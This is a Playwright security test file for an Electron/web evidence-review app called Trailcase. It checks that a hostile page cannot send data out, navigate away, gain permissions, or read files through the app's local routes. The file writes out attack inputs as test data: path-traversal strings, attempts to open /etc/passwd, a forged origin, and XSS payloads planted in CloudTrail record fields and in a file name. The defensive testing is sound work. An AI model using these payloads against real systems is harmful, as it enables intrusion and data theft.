/**
 * Attacks on the shell from inside the page, as a page that evidence has taken over could make them. A server listens the whole
 * time, on TCP and UDP, and must hear nothing. What only the Electron shell can refuse is tested there alone.
 */
import { spawn } from 'node:child_process';
import { createSocket, type Socket } from 'node:dgram';
import { writeFile } from 'node:fs/promises';
import { request } from 'node:http';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';

const CONNECTION = 'tcp connection';

interface Listener {
  /** host:port, the same for TCP and UDP. */
  at: string;
  heard: string[];
}

async function listen(): Promise<{ listener: Listener; close: () => void }> {
  const heard: string[] = [];
  const tcp: Server = createServer((socket) => {
    heard.push(CONNECTION);
    socket.on('error', () => undefined);
    socket.on('data', (data) => heard.push(data.toString('latin1').slice(0, 200)));
    socket.end('HTTP/1.1 200 OK\r\nContent-Length: 0\r\nAccess-Control-Allow-Origin: *\r\n\r\n');
  });
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  const { port } = tcp.address() as AddressInfo;
  const udp: Socket = createSocket('udp4');
  udp.on('message', () => heard.push('udp packet'));
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
  return {
    listener: { at: `127.0.0.1:${port}`, heard },
    close() {
      tcp.close();
      udp.close();
    },
  };
}

const it = test.extend<{ listener: Listener }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of the fixtures from the pattern
  listener: async ({}, use, info) => {
    const { listener, close } = await listen();
    await use(listener);
    close();
    // An ordinary browser opens an idle connection to where a refused frame or form would have led; it carries nothing.
    const heard = info.project.name === 'web' ? listener.heard.filter((what) => what !== CONNECTION) : listener.heard;
    expect(heard, 'the listening server hears nothing').toEqual([]);
  },
});

/**
 * What is refused leaves nothing to wait for. So the page's own tasks come to an end, and one request of its own goes the way of all
 * requests, behind whatever was asked for before.
 */
async function passThrough(page: Page): Promise<void> {
  await page.evaluate(async () => {
    for (let frame = 0; frame < 3; frame++) await new Promise((resolve) => requestAnimationFrame(resolve));
    await (await fetch(`/?${Math.random()}`, { cache: 'no-store' })).text();
  });
}

/** The page as it was before: same address, still alive. */
async function expectUnmoved(page: Page, url: string): Promise<void> {
  expect(await page.evaluate(() => location.href)).toBe(url);
  expect(await page.evaluate(() => document.title)).toContain('Trailcase');
}

it('nothing is sent to another place, by whatever means', async ({ app, listener }) => {
  const outcome = await app.page.evaluate(async (at) => {
    const settled = async (work: () => Promise<unknown>): Promise<string> => {
      try {
        await work();
        return 'sent';
      } catch {
        return 'refused';
      }
    };
    const loads = (element: HTMLElement): Promise<unknown> =>
      new Promise((resolve, reject) => {
        element.addEventListener('load', resolve);
        element.addEventListener('error', reject);
        document.body.append(element);
      });
    const make = <K extends keyof HTMLElementTagNameMap>(name: K, change: Partial<HTMLElementTagNameMap[K]>): HTMLElementTagNameMap[K] =>
      Object.assign(document.createElement(name), change);
    const http = `http://${at}`;
    const results: Record<string, string> = {
      fetch: await settled(() => fetch(`${http}/fetch`)),
      noCors: await settled(() => fetch(`${http}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'evidence' })),
      keepalive: await settled(() => fetch(`${http}/keepalive`, { keepalive: true, method: 'POST', body: 'evidence' })),
      image: await settled(() => loads(make('img', { src: `${http}/img` }))),
      script: await settled(() => loads(make('script', { src: `${http}/script` }))),
      style: await settled(() => loads(make('link', { rel: 'stylesheet', href: `${http}/style` }))),
      socket: await settled(
        () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket(`ws://${at}/socket`);
            socket.onopen = resolve;
            socket.onerror = reject;
          }),
      ),
      events: await settled(
        () =>
          new Promise((resolve, reject) => {
            const source = new EventSource(`${http}/events`);
            source.onopen = resolve;
            source.onerror = () => {
              source.close();
              reject();
            };
          }),
      ),
      worker: await settled(
        () =>
          new Promise((resolve, reject) => {
            const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${http}/worker').then(() => postMessage(1))`])));
            worker.onmessage = resolve;
            worker.onerror = reject;
          }),
      ),
    };
    navigator.sendBeacon(`${http}/beacon`, 'evidence');
    for (const rel of ['prefetch', 'preload', 'modulepreload', 'icon', 'manifest', 'dns-prefetch', 'preconnect']) {
      document.head.append(make('link', { rel, href: `${http}/${rel}`, as: 'script' }));
    }
    document.body.append(
      make('iframe', { src: `${http}/iframe` }),
      make('object', { data: `${http}/object` }),
      make('video', { src: `${http}/video` }),
    );
    const styled = make('div', {});
    styled.style.backgroundImage = `url(${http}/background)`;
    document.body.append(styled);
    const form = make('form', { action: `${http}/form`, method: 'post', target: 'nowhere' });
    document.body.append(form);
    form.submit();
    return results;
  }, listener.at);
  await passThrough(app.page);
  expect(Object.entries(outcome).filter(([, result]) => result !== 'refused')).toEqual([]);
});

it('a peer connection reaches nobody', async ({ app, listener }) => {
  test.skip(app.mount === 'web', 'a page cannot keep an ordinary browser from WebRTC');
  const candidates = await app.page.evaluate(async (at) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${at}` }] });
    peer.createDataChannel('x');
    const found: string[] = [];
    peer.onicecandidate = (event) => event.candidate && found.push(event.candidate.candidate);
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => {
      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(null);
    });
    peer.close();
    return found.filter((candidate) => candidate.includes(' udp '));
  }, listener.at);
  expect(candidates).toEqual([]);
});

it('the page cannot be led away', async ({ app, listener }) => {
  test.skip(app.mount === 'web', 'an ordinary browser lets a page navigate');
  const { page } = app;
  const url = page.url();
  const ways: ((at: string) => void)[] = [
    (at) => {
      location.href = `http://${at}/href`;
    },
    (at) => location.assign(`http://${at}/assign`),
    (at) => {
      const link = Object.assign(document.createElement('a'), { href: `http://${at}/link` });
      document.body.append(link);
      link.click();
    },
    (at) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;url=http://${at}/refresh`;
      document.head.append(meta);
    },
    () => location.assign('file:///etc/passwd'),
    () => location.assign('data:text/html,<script>1</script>'),
    () => location.assign('trailcase://print/'),
    () => location.assign('trailcase://app/api/app'),
    () => location.assign('chrome://gpu'),
  ];
  for (const way of ways) {
    await page.evaluate(way, listener.at).catch(() => undefined);
    await passThrough(page);
    await expectUnmoved(page, url);
  }
});

it('no second window opens', async ({ app, listener }) => {
  test.skip(app.mount === 'web', 'an ordinary browser lets a page open windows');
  await app.page.evaluate((at) => {
    for (const url of [`http://${at}/open`, 'about:blank', 'trailcase://app/', 'file:///etc/passwd', 'data:text/html,x'])
      window.open(url, '_blank');
    for (const target of ['_blank', 'other']) {
      const link = Object.assign(document.createElement('a'), { href: `http://${at}/blank`, target });
      document.body.append(link);
      link.click();
    }
  }, listener.at);
  expect(await app.driven.electron?.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
});

it('every permission and device is refused', async ({ app }) => {
  const outcome = await app.page.evaluate(async () => {
    const refused = async (work: () => Promise<unknown>): Promise<string> =>
      work().then(
        () => 'granted',
        () => 'refused',
      );
    return {
      camera: await refused(() => navigator.mediaDevices.getUserMedia({ video: true })),
      microphone: await refused(() => navigator.mediaDevices.getUserMedia({ audio: true })),
      screen: await refused(() => navigator.mediaDevices.getDisplayMedia({ video: true })),
      place: await refused(() => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))),
      clipboard: await refused(() => navigator.clipboard.readText()),
    };
  });
  expect(Object.entries(outcome).filter(([, result]) => result !== 'refused')).toEqual([]);
  if (app.mount === 'electron') expect(await app.page.evaluate(() => Notification.requestPermission())).toBe('denied');
});

it('the page has no Node, no eval, and two functions of ours', async ({ app }) => {
  const found = await app.page.evaluate(
    () =>
      new Promise<Record<string, unknown>>((resolve) => {
        // In a callback: what a test evaluates is itself exempt from the policy.
        setTimeout(() => {
          const refused = (work: () => unknown): boolean => {
            try {
              work();
              return false;
            } catch {
              return true;
            }
          };
          const holder = document.createElement('div');
          document.body.append(holder);
          holder.innerHTML = '<img src="data:," onerror="window.pwned = 1"><a href="javascript:window.pwned = 1">x</a>';
          holder.querySelector('a')?.click();
          const inline = document.createElement('script');
          inline.textContent = 'window.pwned = 1';
          document.body.append(inline);
          const names = (window as unknown as { trailcase?: object }).trailcase;
          // Its error event comes after those of everything that was put in before it.
          const last = document.createElement('img');
          last.onerror = () =>
            resolve({
              evalRefused: refused(() => new Function('return 1')()),
              pwned: 'pwned' in window,
              node: ['require', 'process', 'module', 'Buffer', 'global'].filter((name) => name in window),
              bridge: names ? Object.keys(names).sort() : null,
            });
          last.src = 'data:,';
          document.body.append(last);
        }, 0);
      }),
  );
  expect(found).toEqual({
    evalRefused: true,
    pwned: false,
    node: [],
    bridge: app.mount === 'electron' ? ['grantFiles', 'onCommand'] : null,
  });
});

it('the window is locked down', async ({ app }) => {
  test.skip(app.mount === 'web', 'Electron’s own switches');
  const preferences = await app.driven.electron?.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0].webContents as unknown as {
      getLastWebPreferences(): Record<string, unknown>;
      session: { isSpellCheckerEnabled(): boolean };
    };
    const { sandbox, contextIsolation, nodeIntegration, webSecurity, webviewTag } = contents.getLastWebPreferences();
    const spellcheck = contents.session.isSpellCheckerEnabled();
    return { sandbox, contextIsolation, nodeIntegration, webSecurity, webviewTag, spellcheck };
  });
  expect(preferences).toEqual({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    webSecurity: true,
    webviewTag: false,
    spellcheck: false,
  });
  // The bridge takes Files that came from the person; one that the page made has no path and gives no grant.
  const grants = await app.page.evaluate(async () => {
    const { grantFiles } = (window as unknown as { trailcase: { grantFiles(files: unknown[]): Promise<unknown[]> } }).trailcase;
    const made = Object.assign(new File(['x'], '/etc/passwd'), { path: '/etc/passwd' });
    const named = await grantFiles(['/etc/passwd', { path: '/etc/passwd' }]).catch(() => []);
    return [...(await grantFiles([made])), ...named];
  });
  expect(grants).toEqual([]);
});

it('routes give no file and take no path', async ({ app }) => {
  const answers = await app.page.evaluate(async () => {
    const paths = [
      '/..%2fpackage.json',
      '/%2e%2e%2fpackage.json',
      '/%252e%252e%252fpackage.json',
      '/..%5cpackage.json',
      '/assets/..%2f..%2fmain/index.js',
      '/index.html%00',
    ];
    const pages = await Promise.all(paths.map(async (path) => [path, (await fetch(path)).status]));
    const importing = await fetch('/api/import', {
      method: 'POST',
      body: JSON.stringify({ importId: 'forged', caseId: 'forged', grants: ['/etc/passwd'], known: [] }),
    });
    const journal = await fetch('/api/journal/..%2f..%2fetc', { method: 'POST', body: '{}' });
    return { pages, importing: importing.status, journal: journal.status };
  });
  expect(answers.pages.filter(([, status]) => status !== 404)).toEqual([]);
  expect(answers.importing).toBe(403);
  expect([400, 403, 404]).toContain(answers.journal);
});

it('the local server talks to its own page only', async ({ app }) => {
  test.skip(app.mount === 'electron', 'there is no server');
  const { host, port } = new URL(app.page.url());
  const status = (path: string, headers: Record<string, string>): Promise<number> =>
    new Promise((resolve, reject) => {
      const asked = request({ host: '127.0.0.1', port, path, headers }, (answer) => {
        answer.resume();
        resolve(answer.statusCode ?? 0);
      });
      asked.on('error', reject);
      asked.end();
    });
  expect(await status('/', { host })).toBe(200);
  expect(await status('/', { host: `rebound.example:${port}` })).toBe(403);
  expect(await status('/', { host: `localhost:${port}` })).toBe(403);
  expect(await status('/api/app', { host })).toBe(403);
  expect(await status('/api/app', { host, authorization: 'Bearer guess' })).toBe(403);
  expect(await status('/', { host, origin: 'https://evil.example' })).toBe(403);
});

it('a second local server for the profile refuses in one sentence', async ({ app }) => {
  test.skip(app.mount === 'electron', 'there is no server');
  const second = spawn(process.execPath, ['out/main/local-server.js', `--profile=${app.driven.profile}`, '--no-browser']);
  let said = '';
  second.stderr.on('data', (data) => {
    said += data;
  });
  expect(await new Promise((resolve) => second.once('close', resolve))).toBe(1);
  expect(said).toMatch(/^Port \d+, .*already runs for this profile.*\n$/);
});

it('records full of HTML and script are shown as text', async ({ app, listener, folder }) => {
  const evil = (name: string): string =>
    `"><img src="http://${listener.at}/${name}" onerror="window.pwned='${name}'"><script>window.pwned='${name}'</script><a href="javascript:window.pwned=1">${name}</a>{{${name}}}\u202E`;
  const record = (n: number): object => ({
    eventVersion: '1.08',
    eventID: n === 0 ? evil('eventID') : `00000000-0000-4000-8000-00000000000${n}`,
    eventTime: `2026-03-02T09:00:0${n}Z`,
    eventName: evil('eventName'),
    eventSource: evil('eventSource'),
    awsRegion: evil('awsRegion'),
    sourceIPAddress: evil('sourceIPAddress'),
    userAgent: evil('userAgent'),
    errorCode: evil('errorCode'),
    errorMessage: evil('errorMessage'),
    recipientAccountId: evil('account'),
    userIdentity: {
      type: 'IAMUser',
      arn: `arn:aws:iam::111111111111:user/${evil('arn')}`,
      accountId: evil('accountId'),
      userName: evil('userName'),
      accessKeyId: evil('accessKeyId'),
    },
    requestParameters: { [evil('key')]: evil('value'), bucketName: evil('bucket') },
    resources: [{ ARN: evil('resource'), type: evil('type') }],
  });
  const file = join(folder, `<img src=x onerror=alert(1)>.json`);
  await writeFile(file, JSON.stringify({ Records: [0, 1, 2].map(record) }));
  const dialogs: string[] = [];
  app.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await app.drop(file);
  await expect.poll(() => app.events()).toBe(3);
  await app.waitIdle();
  for (const view of ['Overview', 'Events', 'Principals', 'Resources', 'Evidence']) {
    await app.page
      .getByRole('link', { name: view, exact: true })
      .or(app.page.getByRole('button', { name: view, exact: true }))
      .first()
      .click();
    await app.waitIdle();
    if (view === 'Events') {
      await app.page.getByRole('row').nth(1).click();
      await app.waitIdle();
    }
    const found = await app.page.evaluate(() => ({
      pwned: 'pwned' in window,
      images: [...document.images]
        .map((image) => image.src)
        .filter((src) => src.startsWith('http://127.0.0.1') && !src.startsWith(location.origin)),
      scripts: [...document.scripts].filter((script) => script.textContent?.includes('pwned')).length,
      links: [...document.links].filter((link) => link.protocol === 'javascript:').length,
    }));
    expect(found, view).toEqual({ pwned: false, images: [], scripts: 0, links: 0 });
  }
  expect(dialogs).toEqual([]);
});
